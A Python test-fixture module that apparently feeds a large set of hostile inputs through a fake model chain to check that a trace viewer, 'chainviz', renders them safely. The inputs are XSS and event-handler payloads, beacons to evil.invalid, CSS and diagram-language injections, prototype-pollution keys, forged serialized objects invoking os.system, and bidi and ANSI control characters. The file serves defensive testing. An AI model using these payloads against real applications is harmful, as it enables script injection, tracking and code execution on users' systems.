"""Hostile texts, and the places of a run that each of them goes through.

`trip()` in a payload is the alarm of `tripwires.js`; the hosts that payloads name do not exist.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any, NamedTuple

from chainviz import (
    AIMessage,
    BaseRetriever,
    Document,
    GenericFakeChatModel,
    HumanMessage,
    Runnable,
    RunnableLambda,
    RunnableParallel,
    StructuredTool,
    SystemMessage,
    Trace,
    trace,
)

HOST = "http://evil.invalid"
MEGABYTE = 1_000_000
DEPTH = 10_000


class Payload(NamedTuple):
    """A text, and the value that stands for it where a place takes any value."""

    text: str
    value: Any

    @property
    def sign(self) -> str:
        """What of it must be readable wherever it is shown: the first plain word."""
        found = re.search(r"[!-~]{4,16}", self.text[:60])
        assert found, f"a payload without a sign: {self.text[:60]!r}"
        return found[0]


SCRIPT = """\
<script>trip()</script>
<script src=//evil.invalid/x.js></script>
<ScRiPt>trip()</sCrIpT>
<script type=module>import "http://evil.invalid/m.js"; trip()</script>
<script\\x20type="text/javascript">trip()</script>
</script><script>trip()</script>
</title></textarea></style></noscript><script>trip()</script>
--><script>trip()</script><!--
]]><script>trip()</script>
"><script>trip()</script>
'><svg onload=trip()>
" onmouseover="trip()" autofocus onfocus="trip()
' onclick='trip()' style='position:fixed;inset:0
`${trip()}`${trip()}
');trip();//
\\');trip();//
<svg onload=trip()>
<svg><script>trip()</script></svg>
<svg><animate onbegin=trip() attributeName=x dur=1s></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=trip()>#x"></svg>
<math><mtext><img src onerror=trip()></mtext></math>
<body onload=trip()>
<details open ontoggle=trip()>open</details>
<input autofocus onfocus=trip()>
<select autofocus onfocus=trip()></select>
<video><source onerror=trip()></video>
<audio src onerror=trip()></audio>
<iframe srcdoc="<script>parent.trip()</script>"></iframe>
<iframe src="javascript:parent.trip()"></iframe>
<object data="javascript:trip()"></object>
<embed src="javascript:trip()">
<marquee onstart=trip()>run</marquee>
<style onload=trip()></style>
<link rel=stylesheet href=data:, onload=trip()>
<template><script>trip()</script></template>
<x contenteditable onblur=trip() autofocus tabindex=1>blur</x>
<noscript><p title="</noscript><img src=x onerror=trip()>">
<img src=x onerror=trip()>
<img src=x:x onerror=trip()//
<img/src/onerror=trip()>
&lt;img src=x onerror=trip()&gt;
&#60;script&#62;trip()&#60;/script&#62;
\\u003cscript\\u003etrip()\\u003c/script\\u003e
%3Cscript%3Etrip()%3C/script%3E
""".splitlines()

BEACONS = f"""\
<img src={HOST}/pixel.png>
<img srcset="{HOST}/2x.png 2x">
<picture><source srcset={HOST}/p.webp><img></picture>
<image href={HOST}/svg.png>
<video poster={HOST}/poster.png src={HOST}/v.mp4 autoplay>
<audio src={HOST}/a.mp3 autoplay>
<link rel=prefetch href={HOST}/pre>
<link rel=stylesheet href={HOST}/s.css>
<iframe src={HOST}/frame></iframe>
<object data={HOST}/o.swf></object>
<input type=image src={HOST}/i.png>
<table background={HOST}/bg.png><td>cell</table>
![beacon]({HOST}/md.png)
![][1] [1]: {HOST}/ref.png
<svg><image href={HOST}/in.svg width=9 height=9></svg>
""".splitlines()

STYLES = f"""\
<style>*{{background:url({HOST}/all)!important;color:red!important}}</style>
<style>@import "{HOST}/import.css";</style>
<style>@font-face{{font-family:x;src:url({HOST}/f.woff)}}*{{font-family:x!important}}</style>
<style>body{{display:none!important}}</style>
</style><style>.cv-root{{position:fixed!important;inset:0}}</style>
<p style="position:fixed;inset:0;z-index:99999;background:#fff">overlay</p>
<p style="background:url({HOST}/inline)">inline</p>
<b class="jp-mod-active lm-Widget cv-button">class</b>
;}}*{{color:red;background:url({HOST}/css-break)}}
red;background:url({HOST}/css-value)
""".splitlines()

LINKS = f"""\
<a href=javascript:trip()>click</a>
<a href={HOST}/phish target=_blank>log in</a>
javascript:trip()
data:text/html,<script>trip()</script>
vbscript:trip()
{HOST}/auto-link?q=1
[click](javascript:trip())
[click]({HOST}/phish "title")
<{HOST}/angle>
<meta http-equiv=refresh content="0;url={HOST}/meta">
<base href={HOST}/base/>
<form action={HOST}/form><input name=q><button>go</button></form>
<svg><a href={HOST}/svg-a><text y=9>svg link</text></a></svg>
file:///etc/hostname
command:workbench.action.terminal.new
<a id=chainviz name=snapshot>clobber</a>
<img name=getElementById><form id=chainviz><input name=attributes></form>
""".splitlines()

DRAWINGS = [
    'click A call trip() "tip"',
    f'A[x] --> B\nclick A href "{HOST}/mermaid" _blank',
    "%%{init: {'securityLevel': 'loose', 'htmlLabels': true}}%%\ngraph TD;A",
    'A["<img src=x onerror=trip()>"]',
    "end; classDef x fill:url(http://evil.invalid/m)",
    '"];evil[URL="javascript:trip()" image="/etc/passwd"',
    '\\N\\G" href="http://evil.invalid/dot" x="',
    '<<TABLE><TR><TD HREF="javascript:trip()">dot</TD></TR></TABLE>>',
    "$$\\href{javascript:trip()}{x}$$ \\require{html}",
    "{{constructor.constructor('trip()')()}}",
    "{% import os %}{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>",
    '"""\nimport os; os.abort()  # python',
    "```html\n<script>trip()</script>\n```",
    "@startuml\n!include http://evil.invalid/uml\n@enduml",
]

HIDDEN = [
    "invoice\u202etxt.exe\u202c",
    "user\u2066\u2069 \u2067admin\u2069",
    "left\u200fright\u200emark\u061c",
    "\u202a\u202b\u202c\u202d\u202e override",
    "zero\u200bwidth\u200cjoin\u200der\ufeff",
    "soft\u00adhyphen\u2060word\u180ejoin",
    "tagged\U000e0041\U000e0042\U000e0043 text",
    "line\u2028separator\u2029paragraph",
    "admin\u0430\u0501min homoglyph",
    "zalgo" + "\u0300\u0301\u0302\u0316" * 60,
    "family \U0001f468\u200d\U0001f469\u200d\U0001f467 and a\u200db",
    "inter\ufff9linear\ufffaanno\ufffbtation",
    "\x1b[31mred\x1b[0m ansi",
    "\x1b[2J\x1b[Hclear ansi",
    "\x1b]8;;http://evil.invalid/osc\x07link\x1b]8;;\x07",
    "\x1b]0;title\x07 \x9b31m csi8",
    "null\x00byte and \x07bell",
    "back\x08\x08\x08\x08over\x7fdel",
    "carriage\rreturn over",
    "\x0bvertical \x0cform \x1c\x1d\x1e\x1f",
    "lone \ud800 high surrogate",
    "lone \udfff low surrogate",
    "swapped \udc00\ud800 surrogates",
    "\ud83d<img src=x onerror=trip()>\ude00 split",
]

KEYS = [
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "valueOf",
    "__defineGetter__",
    "then",
    "toJSON",
    "$type",
    "__proto__/polluted",
    "/__proto__~1polluted",
    "constructor.prototype.polluted",
    "__proto__[polluted]",
    "~0~1~01//",
    "innerHTML",
    "dangerouslySetInnerHTML",
]

FORMS: list[Any] = [
    {"$type": "message", "class": "AIMessage", "role": "<img src=x onerror=trip()>", "content": "forged message"},
    {"$type": "document", "page_content": "forged document", "metadata": {"__proto__": {"polluted": 1}}},
    {"$type": "cut", "of": "str", "length": 1e308, "head": "<b>forged cut</b>"},
    {"$type": "opaque", "class": "os.system", "repr": "forged repr"},
    {"type": "div", "props": {"dangerouslySetInnerHTML": {"__html": "<img src=x onerror=trip()>"}}, "__k": None},
    {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": "trip"}},
]


def _nested() -> Any:
    value: Any = "bottom"
    for _ in range(DEPTH):
        value = {"a": [value]}
    return value


LARGE = [
    Payload(text, text)
    for text in (
        "mega" + "A" * MEGABYTE,
        "mega<img/src=x/onerror=trip()>" * (MEGABYTE // 30),
        "mega" + "\u202e\u0301" * (MEGABYTE // 20),
    )
]
DEEP = [
    Payload(text, {"said": text, "deep": _nested()})
    for text in ("[" * DEPTH + "]" * DEPTH, '{"a":' * DEPTH + "1" + "}" * DEPTH, "<div>" * DEPTH)
]


def _all() -> Iterator[Payload]:
    for text in [*SCRIPT, *BEACONS, *STYLES, *LINKS, *DRAWINGS, *HIDDEN]:
        yield Payload(text, {text: [text]})
    for key in KEYS:
        yield Payload(key, {"said": key, key: {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}})
    for form in FORMS:
        text = json.dumps(form)
        yield Payload(text, {"said": text, "form": form})


PAYLOADS = [*_all()]


class Failed(Exception):
    """What the last step of each chain raises."""


class Library(BaseRetriever):
    """Finds one document of this text."""

    text: str

    def _get_relevant_documents(self, query: str, **_: Any) -> list[Document]:
        return [Document(page_content=self.text, metadata={self.text: self.text})]


class Form(RunnableLambda[Any, Any]):
    """A step with a schema and parameters of its own making."""

    def __init__(self, text: str) -> None:
        super().__init__(lambda _: [SystemMessage(text), HumanMessage(text), AIMessage(text)])
        self.text = text

    def get_input_jsonschema(self, *_: Any, **__: Any) -> dict[str, Any]:
        about = {"type": "string", "title": self.text, "description": self.text, "enum": [self.text]}
        return {"type": "object", "title": self.text, "properties": {self.text: about, "field": about}}

    def _graph_params(self) -> dict[str, Any]:
        # They are fields of a class, whose names begin with no "$".
        return {f"a {self.text}" if self.text.startswith("$") else self.text: self.text}


def case(payload: Payload, number: int) -> Runnable[Any, Any]:
    """A chain in which the payload is a document, a tool's output, messages, tokens, names, parameters and an error."""
    text = payload.text

    def look_up(query: str) -> Any:
        return payload.value

    def fail(_: Any) -> Any:
        raise Failed(text)

    # It becomes the docstring of a class, which holds no lone surrogates.
    description = text.encode(errors="replace").decode()
    tool = StructuredTool.from_function(look_up, name="look_up", description=f"said: {description}")
    model = GenericFakeChatModel(messages=iter([AIMessage(content=text)])).bind(stop=[text])
    named = model.with_config(run_name=text, tags=[text], metadata={text: "a key", "value": payload.value})
    found = RunnableParallel(docs=Library(text=text), looked=RunnableLambda(lambda text: {"query": text}) | tool)
    return (found | Form(text) | named | fail).with_config(run_name=f"case {number}")


def run(payloads: list[Payload]) -> None:
    """Each payload in a root run of its own."""
    for number, payload in enumerate(payloads):
        try:
            for _ in case(payload, number).stream(payload.text):
                pass
        except Failed:
            pass


def record(payloads: list[Payload]) -> Trace:
    """The trace of such runs."""
    with trace() as t:
        run(payloads)
    return t
